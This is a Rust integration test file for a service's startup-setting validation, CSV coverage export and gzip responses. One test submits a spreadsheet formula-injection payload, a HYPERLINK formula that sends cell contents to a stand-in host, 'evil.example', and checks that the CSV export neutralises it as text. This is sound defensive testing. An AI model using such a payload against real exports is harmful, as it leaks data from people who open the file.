//! Settings checked once at start (a bad value stops the binary, naming the variable), and the
//! files and answers people receive: CSV that Excel opens and cannot run, gzip when asked.

use std::io::Read;
use std::process::Command;

use serde_json::json;
use yifei_contract::Role;

use crate::common::{Backend, TestApp, TestDb};

/// Runs `yifei migrate` with one extra variable: (exit code, stderr).
fn migrate_with(db: &TestDb, var: &str, value: &str) -> (i32, String) {
    let out = Command::new(env!("CARGO_BIN_EXE_yifei-under-test"))
        .arg("migrate")
        .env("YIFEI_DATABASE_URL", &db.url)
        .env("YIFEI_LOG", "warn")
        .env(var, value)
        .output()
        .expect("yifei ran");
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn a_bad_setting_stops_the_start_naming_the_variable_and_what_it_accepts() {
    let Some(db) = TestDb::create(Backend::Sqlite) else {
        return;
    };
    for (var, value, accepted) in [
        // A misspelt "off" used to mean "on".
        ("YIFEI_GROUP_COMMIT", "of", "on, off, true, false"),
        // Alert thresholds used to be re-read on every evaluation, a bad one becoming the
        // default without a word.
        (
            "YIFEI_ALERT_STORAGE_BREACH_H",
            "two days",
            "whole number from 1",
        ),
        ("YIFEI_ALERT_INACTIVE_DAYS", "0", "whole number from 1"),
        ("YIFEI_TRAVEL_CIRCUITY", "0.8", "number from 1 to 3"),
        ("YIFEI_TRAVEL_SPEED_KMH", "fast", "number from 5 to 120"),
        ("YIFEI_LOG_FORMAT", "jsonl", "text or json"),
        ("YIFEI_LOG", "info,[", "log filter"),
        ("YIFEI_SMTP_POLL_S", "0", "whole number >= 1"),
    ] {
        let (code, stderr) = migrate_with(&db, var, value);
        assert_eq!(code, 2, "{var}={value}: {stderr}");
        assert!(
            stderr.contains(var) && stderr.contains(accepted),
            "{var}={value}: {stderr}"
        );
    }
    // The same variables with good values start.
    for (var, value) in [
        ("YIFEI_GROUP_COMMIT", "OFF"),
        ("YIFEI_ALERT_STORAGE_BREACH_H", "36"),
        ("YIFEI_TRAVEL_CIRCUITY", "1.25"),
        ("YIFEI_TRAVEL_SPEED_KMH", "42.5"),
        ("YIFEI_LOG_FORMAT", "json"),
    ] {
        let (code, stderr) = migrate_with(&db, var, value);
        assert_eq!(code, 0, "{var}={value}: {stderr}");
    }
}

/// A GET with the caller's choice of `Accept-Encoding`: (status, headers, raw body bytes).
fn raw_get(
    app: &TestApp,
    path: &str,
    token: Option<&str>,
    encoding: Option<&str>,
) -> (u16, ureq::http::HeaderMap, Vec<u8>) {
    let agent: ureq::Agent = ureq::Agent::config_builder()
        .http_status_as_error(false)
        .build()
        .into();
    let mut r = agent.get(format!("{}{path}", app.base));
    if let Some(t) = token {
        r = r.header("authorization", format!("Bearer {t}"));
    }
    if let Some(e) = encoding {
        r = r.header("accept-encoding", e);
    }
    let mut res = r.call().expect("GET");
    let status = res.status().as_u16();
    let headers = res.headers().clone();
    let body = res
        .body_mut()
        .with_config()
        .limit(64 * 1024 * 1024)
        .read_to_vec()
        .expect("body");
    (status, headers, body)
}

fn header<'a>(h: &'a ureq::http::HeaderMap, name: &str) -> &'a str {
    h.get(name).and_then(|v| v.to_str().ok()).unwrap_or("")
}

/// A problem body without its `request_id`; any other body as it is.
fn without_request_id(bytes: Vec<u8>) -> Vec<u8> {
    match serde_json::from_slice::<serde_json::Value>(&bytes) {
        Ok(serde_json::Value::Object(mut m)) if m.contains_key("request_id") => {
            m.remove("request_id");
            serde_json::to_vec(&m).unwrap_or_default()
        }
        _ => bytes,
    }
}

fn gunzip(bytes: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    flate2::read::GzDecoder::new(bytes)
        .read_to_end(&mut out)
        .expect("a gzip body");
    out
}

/// A public sign-up names itself `=HYPERLINK(...)`: the coverage CSV the bureau opens in Excel
/// starts with a byte order mark (so 测试村 reads as Chinese on a Chinese Windows) and shows
/// the name as text, not as a link that runs; the counts beside it stay numbers.
fn a_signed_up_formula_reaches_the_coverage_csv_as_text(app: &TestApp) {
    app.user("admin1", Role::Admin, None);
    let admin = app.login("admin1").0;
    let formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"查看\")";
    let mut body = crate::common::sign_up_body(1, formula);
    body["name"] = json!(formula);
    let r = app.post("/api/v1/institutions", None, &body);
    assert_eq!(r.status, 201, "{}", r.text);
    let inst = r.str("id");
    let r = app.post(
        &format!("/api/v1/institutions/{inst}/approve"),
        Some(&admin),
        &json!({}),
    );
    assert_eq!(r.status, 200, "{}", r.text);

    let (status, headers, bytes) = raw_get(
        app,
        "/api/v1/reports/coverage?format=csv",
        Some(&admin),
        None,
    );
    assert_eq!(status, 200);
    assert!(header(&headers, "content-type").starts_with("text/csv; charset=utf-8"));
    assert!(
        bytes.starts_with(&[0xEF, 0xBB, 0xBF]),
        "no BOM: {:?}",
        &bytes[..8]
    );
    let csv = String::from_utf8(bytes).expect("UTF-8");
    let csv = csv.trim_start_matches('\u{feff}');
    assert!(csv.starts_with("dimension,group,"), "{csv}");
    // The township cell: quoted (it holds commas and quotes), and text.
    let neutral = "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"查看\"\")\"";
    let line = csv
        .lines()
        .find(|l| l.starts_with("township,"))
        .unwrap_or_else(|| panic!("no township line in {csv}"));
    assert!(
        line.starts_with(&format!("township,{neutral},1,")),
        "{line}"
    );
    assert!(!csv.contains(",=") && !csv.contains(",\"="), "{csv}");
    // Every cell after the group is a number as written, none prefixed ("no data" marks a
    // rate without a denominator; the definition line below the header is text; the last
    // cell is when the report was computed).
    let total = csv
        .lines()
        .find(|l| l.starts_with("total,"))
        .unwrap_or_else(|| panic!("no total line in {csv}"));
    let cells: Vec<&str> = total.split(',').collect();
    assert!(
        chrono::DateTime::parse_from_rfc3339(cells[cells.len() - 1]).is_ok(),
        "{total}"
    );
    for cell in &cells[2..cells.len() - 1] {
        assert!(
            cell.is_empty() || *cell == "no data" || cell.parse::<f64>().is_ok(),
            "{cell:?} in {total}"
        );
    }
}

/// gzip when the client asks for it, plain otherwise, for JSON, CSV, SVG and problem bodies,
/// with the same security headers; the decompressed body is the plain one byte for byte.
fn answers_are_gzipped_when_the_client_accepts_it(app: &TestApp) {
    app.user("admin1", Role::Admin, None);
    let admin = app.login("admin1").0;
    let r = app.post(
        "/api/v1/institutions",
        None,
        &crate::common::sign_up_body(1, "石门镇"),
    );
    assert_eq!(r.status, 201, "{}", r.text);
    let (inst, clinic_login) = (r.str("id"), r.str("login"));
    let r = app.post(
        &format!("/api/v1/institutions/{inst}/approve"),
        Some(&admin),
        &json!({}),
    );
    assert_eq!(r.status, 200, "{}", r.text);
    let clinic = app.login(&clinic_login).0;
    let code = crate::custody::new_container(app, &clinic, "infectious", "bag");
    let label = format!("/api/v1/containers/{code}/label.svg");
    let (s, h, svg) = raw_get(app, &label, Some(&clinic), Some("gzip"));
    assert_eq!(s, 200);
    assert!(
        header(&h, "content-type").starts_with("image/svg+xml"),
        "{h:?}"
    );
    assert_eq!(header(&h, "content-encoding"), "gzip");
    let (_, h_plain, plain) = raw_get(app, &label, Some(&clinic), None);
    assert_eq!(gunzip(&svg), plain, "the label");
    assert_eq!(
        header(&h, "content-security-policy"),
        header(&h_plain, "content-security-policy")
    );
    let paths = [
        ("/api/v1/openapi.json", "application/json"),
        ("/api/v1/reports/coverage?format=csv", "text/csv"),
        ("/api/v1/reports/coverage", "application/json"),
        (
            "/api/v1/containers/NOPE-0000/label.svg",
            "application/problem+json",
        ),
    ];
    for (path, kind) in paths {
        let (s_plain, h_plain, plain) = raw_get(app, path, Some(&admin), None);
        let (s_gz, h_gz, gz) = raw_get(app, path, Some(&admin), Some("gzip"));
        assert_eq!(s_plain, s_gz, "{path}");
        assert!(header(&h_plain, "content-type").starts_with(kind), "{path}");
        assert_eq!(
            header(&h_plain, "content-encoding"),
            "",
            "{path}: plain when not asked"
        );
        assert_eq!(header(&h_gz, "content-encoding"), "gzip", "{path}");
        assert!(
            header(&h_gz, "vary")
                .to_ascii_lowercase()
                .contains("accept-encoding")
        );
        for h in [
            "x-content-type-options",
            "content-security-policy",
            "cache-control",
        ] {
            assert_eq!(header(&h_gz, h), header(&h_plain, h), "{path}: {h}");
            assert!(!header(&h_gz, h).is_empty(), "{path}: {h}");
        }
        // The same body (a problem's request id aside: each request has its own).
        let (unzipped, plain) = (without_request_id(gunzip(&gz)), without_request_id(plain));
        assert_eq!(unzipped, plain, "{path}");
        if path.ends_with("openapi.json") {
            assert!(
                gz.len() * 4 < plain.len(),
                "{} -> {}",
                plain.len(),
                gz.len()
            );
        }
    }
    // A client that accepts only what the server does not offer gets plain bytes.
    let (_, h, body) = raw_get(app, "/api/v1/openapi.json", None, Some("br"));
    assert_eq!(header(&h, "content-encoding"), "");
    assert!(serde_json::from_slice::<serde_json::Value>(&body).is_ok());
}

crate::both!(
    a_signed_up_formula_reaches_the_coverage_csv_as_text,
    answers_are_gzipped_when_the_client_accepts_it
);
